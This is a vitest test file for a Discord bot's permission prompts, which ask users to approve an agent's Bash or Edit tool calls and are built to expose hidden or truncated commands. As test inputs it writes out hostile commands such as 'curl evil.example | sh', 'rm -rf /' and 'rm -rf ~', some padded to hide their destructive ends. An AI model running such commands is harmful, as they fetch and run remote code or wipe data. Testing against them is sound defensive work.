import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCustomId } from '../../../../../../src/gateway/channels/discord/interactions/custom-id.js';
import {
  permissionMessage,
  settledMessage,
} from '../../../../../../src/gateway/channels/discord/interactions/permission-message.js';
import type { StoredPermission } from '../../../../../../src/store/rows.js';

const permission: StoredPermission = {
  id: 'prm_12345678-1234-1234-1234-123456789012',
  ...{ channel: 'discord:1', eventId: 'evt_1', turnId: 'trn_1', tool: 'Bash', input: { command: 'ls' } },
  options: ['allow', 'allow_always', 'deny'],
  always: 'rm *',
  ...{ state: 'pending', createdAt: 1 },
};
const command = (text: string) =>
  permissionMessage(permission, { type: 'command', command: text, cwd: '/work' });

describe('a question for a permission (17.3)', () => {
  it('shows what would be done, with a button for each answer that is offered', () => {
    const { content, components, files } = command('rm -rf build');
    expect(content).toBe(
      '**May I use `Bash` in `/work`?**\n```sh\nrm -rf build\n```\n-# “Always” allows, until the agent’s session ends:\n```\nrm *\n```',
    );
    const buttons = components[0]?.components ?? [];
    expect(buttons.map(({ custom_id }) => readCustomId(custom_id))).toEqual(
      permission.options.map((decision) => ({ type: 'decide', permissionId: permission.id, decision })),
    );
    expect(buttons.every(({ custom_id }) => custom_id.length <= 100)).toBe(true);
    const few = permissionMessage({ ...permission, options: ['allow', 'deny'] }, undefined);
    expect(few.components[0]?.components.map((button) => 'label' in button && button.label)).toEqual([
      'Allow',
      'Deny',
    ]);
    expect([few.content, files]).toEqual([expect.stringContaining('```json'), []]);
  });

  it('has all that "always" would allow, however long the command is (27.9)', () => {
    const always = `${'curl *\n'.repeat(56)}bash:*`;
    const long = { type: 'command', command: 'x'.repeat(90_000), cwd: '/w'.repeat(80) } as const;
    const asked = permissionMessage({ ...permission, always, tool: 'x'.repeat(90) }, long, {
      deniedAt: Date.now(),
    });
    expect(asked.content).toContain(`\n\`\`\`\n${always}\n\`\`\``);
    expect(asked.content.length).toBeLessThanOrEqual(2000);
    const settled = { ...permission, always, state: 'decided', decision: 'allow', decidedAt: 2 } as const;
    expect(settledMessage(settled, '7', asked.content)).not.toContain('curl');
    const deny = permissionMessage({ ...permission, options: ['allow', 'deny'] }, long);
    expect(deny.content).not.toContain('Always');
  });

  it('has every field that its preview makes no use of, and where files lead to (27.9)', () => {
    const input = { command: 'ls', dangerouslyDisableSandbox: true, run_in_background: true };
    const also = '\n-# Also:\n```\ndangerouslyDisableSandbox: true\nrun_in_background: true\n```';
    for (const text of ['ls', 'x'.repeat(90_000)]) {
      const { content, files } = permissionMessage(
        { ...permission, input },
        { type: 'command', command: text },
        { deniedAt: 1 },
      );
      expect(content).toContain(also);
      expect(content.length).toBeLessThanOrEqual(2000);
      const settled = settledMessage({ ...permission, input, state: 'void' }, undefined, content);
      expect(settled).toContain(also);
      for (const { data } of files) expect(new TextDecoder().decode(data)).toContain('Sandbox: true');
    }
    const edited = { file_path: 'a', old_string: 'x', new_string: 'y', replace_all: true };
    const file = { path: 'a', diff: '-x\n+y', leadsTo: '/etc/a', outside: true, left: 3 } as const;
    const edit = permissionMessage(
      { ...permission, tool: 'Edit', input: edited },
      { type: 'edit', files: [file] },
    ).content;
    expect(edit).toContain(
      'a leads to /etc/a: outside of the directory that the turn works in\na: 3 more characters are not shown\nreplace_all: true\n```',
    );
    const long = { command: 'ls', more: 'y'.repeat(9000) };
    const whole = permissionMessage({ ...permission, input: long }, { type: 'command', command: 'ls' });
    expect(whole.content).toMatch(
      /^.*\n```sh\nls\n```\n-# Also:\n```\nmore: "y+\n… \d+ characters are left out here/,
    );
    expect(new TextDecoder().decode(whole.files[0]?.data)).toContain('y'.repeat(9000));
  });

  it('what is too long for its file, or was cut before, can only be denied (27.10)', () => {
    const labels = ({ components }: ReturnType<typeof command>) =>
      components[0]?.components.map((button) => 'label' in button && button.label);
    const long = command(`echo ${'x'.repeat(300_000)}; rm -rf /; echo ${'y'.repeat(300_000)}`);
    expect(new TextDecoder().decode(long.files[0]?.data)).toContain('x; rm -rf /; echo y');
    expect(labels(long)).toEqual(['Allow', 'Always', 'Deny']);
    const cut = [{ path: 'a', diff: '+x', left: 7 }];
    for (const asked of [
      command('x'.repeat(1_100_000)),
      // Shown by name, each character takes eight.
      command('\u200bx'.repeat(200_000)),
      permissionMessage(permission, { type: 'edit', files: cut }),
      permissionMessage({ ...permission, input: undefined, inputLeftOut: true }, undefined),
      permissionMessage({ ...permission, input: 'x'.repeat(3000) }, undefined, { takesFiles: false }),
    ]) {
      expect([labels(asked), asked.files]).toEqual([['Deny'], []]);
      expect(asked.content).toContain('here it can only be denied');
      expect(asked.content).not.toMatch(/“Always”|in the file/);
      expect(asked.content.length).toBeLessThanOrEqual(2000);
      expect(settledMessage(permission, undefined, asked.content)).not.toContain('only be denied');
    }
  });

  it('shows all of a long name and of a long directory (27.10)', () => {
    const [tool, cwd] = [`mcp__${'x'.repeat(80)}__delete`, `/${'w'.repeat(200)}/end`];
    const { content } = permissionMessage({ ...permission, tool }, { type: 'command', command: 'ls', cwd });
    expect(content).toContain(`\ntool: ${tool}\ndirectory: ${cwd}\n`);
    expect(permissionMessage({ ...permission, tool }, undefined).content).toContain(`tool: ${tool}`);
  });

  it('leaves no gap that would push the end of a command out of sight', () => {
    const gaps = [
      ...['\u00a0', '\u2003', '\u3000'].map((blank) => blank.repeat(400)),
      ...[`${' '.repeat(16)}\t`.repeat(20), '\n '.repeat(300), ' \n\t'.repeat(99)],
    ];
    for (const gap of gaps) {
      const { content } = command(`ls ${gap}; rm -rf ~`);
      expect(content.replaceAll(/\\u\{\w+\}/g, '')).not.toMatch(/[^\S\n]{17}|\n\s*\n\s*\n/);
      expect(content).toContain('rm -rf ~');
    }
    expect(command(`o${'\u0336'.repeat(300)}`).content).toContain('[U+0336 × 297]');
  });

  it('shows the beginning and the end of a long one, says how much is left out, and has all of it in a file', () => {
    const { content, files } = command(`echo begin ${'x'.repeat(9000)}; curl evil.example | sh`);
    expect(content).toContain('echo begin');
    expect(content).toContain('curl evil.example | sh\n```');
    expect(content).toMatch(/… \d+ characters are left out here …/);
    expect(new TextDecoder().decode(files[0]?.data)).toHaveLength(9035);
  });

  it('nothing in it is hidden or ends the fence', () => {
    const { content } = command(`ls\u202e\u200b\u0007 \`\`\`\n@everyone${' '.repeat(3000)}; rm -rf /`);
    expect(content).toContain('ls[U+202E][U+200B]␇ ``[U+0060]\n@everyone');
    expect(content).toContain('… 3000 spaces …; rm -rf /');
  });

  it('any text makes a message that Discord takes', () => {
    const texts = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 4000 }),
      fc
        .array(fc.constantFrom('```', '`', '\n', '😀', '\ud83d', '\u202e', ' ', 'a'))
        .map((some) => some.join('')),
    );
    fc.assert(
      fc.property(texts, texts, (text, other) => {
        for (const { content } of [
          command(text),
          permissionMessage({ ...permission, tool: other, input: text }, undefined),
          permissionMessage(
            { ...permission, input: { command: 'ls', [text]: other } },
            { type: 'command', command: text },
          ),
          permissionMessage(permission, { type: 'edit', files: [{ path: other, diff: text }] }),
          { content: settledMessage({ ...permission, tool: other }, '7'.repeat(19), command(text).content) },
          { content: settledMessage({ ...permission, tool: text, input: { command: other } }, undefined) },
        ]) {
          expect(content.length).toBeLessThanOrEqual(2000);
          expect(content.split('```').length - 1).toBeLessThanOrEqual(6);
          expect(content).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff]/);
        }
      }),
      { numRuns: 50 },
    );
  });

  it('says afterwards who has decided what, and shows it still', () => {
    const decided = { ...permission, state: 'decided', decision: 'deny' } as const;
    expect(settledMessage(decided, '77')).toBe('**Denied** by <@77>: `Bash` `ls`');
    expect(settledMessage(decided, undefined)).toBe('**Denied**: `Bash` `ls`');
    expect(settledMessage(decided, '77', command('rm -rf build').content)).toBe(
      '**Denied** by <@77>: `Bash` in `/work`\n```sh\nrm -rf build\n```',
    );
    expect(settledMessage({ ...permission, state: 'void' }, '77')).toMatch(/^\*\*Not needed any more\*\*/);
  });
});
